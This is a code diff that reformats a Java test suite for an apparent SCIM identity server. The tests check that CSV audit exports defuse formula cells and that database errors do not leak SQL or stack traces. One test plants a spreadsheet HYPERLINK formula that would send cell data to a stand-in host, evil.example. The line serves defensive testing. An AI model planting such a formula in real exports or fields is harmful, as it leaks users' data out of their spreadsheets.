@@ -66,16 +66,24 @@ class ResponseHygieneTest {
     void csvExportsDefuseFormulaCells() {
         ScimClient scim = ScimClient.bearer(server);
         String evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
-        scim.post("/Users", Bodies.user("@calc-" + System.nanoTime() + "@example.com")).expectStatus(201);
+        scim.post("/Users", Bodies.user("@calc-" + System.nanoTime() + "@example.com"))
+                .expectStatus(201);
         String groupId = scim.createGroup(evil);
         assertThat(groupId).isNotBlank();
 
-        String csv = AdminApi.of(server).get("/admin/v1/audit?format=csv&type=scim.").expectStatus(200).body();
+        String csv = AdminApi.of(server)
+                .get("/admin/v1/audit?format=csv&type=scim.")
+                .expectStatus(200)
+                .body();
         assertThat(csv).contains("'=HYPERLINK(").contains(",'@calc-");
         for (String line : csv.lines().toList()) {
             for (String cell : line.split(",", -1)) {
                 String unquoted = cell.startsWith("\"") ? cell.substring(1) : cell;
-                assertThat(unquoted).as("cell in: " + line).doesNotStartWith("=").doesNotStartWith("@").doesNotStartWith("+");
+                assertThat(unquoted)
+                        .as("cell in: " + line)
+                        .doesNotStartWith("=")
+                        .doesNotStartWith("@")
+                        .doesNotStartWith("+");
             }
         }
     }
@@ -85,21 +93,31 @@ class ResponseHygieneTest {
         try (KiroServer postgres = KiroServer.start(Backend.POSTGRES)) {
             ScimClient scim = ScimClient.bearer(postgres);
             scim.createGroup("hygiene-" + System.nanoTime());
-            try (Connection c = postgres.connectToDatabase(); Statement s = c.createStatement()) {
+            try (Connection c = postgres.connectToDatabase();
+                    Statement s = c.createStatement()) {
                 s.execute("alter table scim_group rename to scim_group_away");
             }
             try {
-                for (ScimResponse r : java.util.List.of(scim.get("/Groups"), scim.post("/Groups", Bodies.group("hygiene-2-" + System.nanoTime())))) {
+                for (ScimResponse r : java.util.List.of(
+                        scim.get("/Groups"), scim.post("/Groups", Bodies.group("hygiene-2-" + System.nanoTime())))) {
                     assertThat(r.status()).as(r.describe()).isGreaterThanOrEqualTo(500);
                     r.expectScimError(r.status(), null);
-                    assertThat(r.body().toLowerCase()).as(r.describe())
-                            .doesNotContain("scim_group").doesNotContain("select").doesNotContain("insert")
-                            .doesNotContain("sql").doesNotContain("exception").doesNotContain("hibernate")
-                            .doesNotContain("\tat ").doesNotContain("org.").doesNotContain("dev.kiroscim");
+                    assertThat(r.body().toLowerCase())
+                            .as(r.describe())
+                            .doesNotContain("scim_group")
+                            .doesNotContain("select")
+                            .doesNotContain("insert")
+                            .doesNotContain("sql")
+                            .doesNotContain("exception")
+                            .doesNotContain("hibernate")
+                            .doesNotContain("\tat ")
+                            .doesNotContain("org.")
+                            .doesNotContain("dev.kiroscim");
                     r.assertHeader("Cache-Control").isEqualTo("no-store");
                 }
             } finally {
-                try (Connection c = postgres.connectToDatabase(); Statement s = c.createStatement()) {
+                try (Connection c = postgres.connectToDatabase();
+                        Statement s = c.createStatement()) {
                     s.execute("alter table scim_group_away rename to scim_group");
                 }
             }
